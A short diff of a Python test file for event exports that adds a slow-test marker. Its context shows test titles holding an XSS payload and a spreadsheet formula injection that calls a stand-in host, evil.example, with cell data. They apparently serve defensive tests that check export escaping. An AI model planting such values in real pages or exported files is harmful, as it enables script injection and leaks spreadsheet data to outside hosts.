@@ -14,6 +14,8 @@ from events import View
 from exports import FORMATS, export
 from loaders import load_events
 
+pytestmark = pytest.mark.slow
+
 TITLES = [
     "<script>alert(1)</script><img src=x onerror=alert(1)>",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
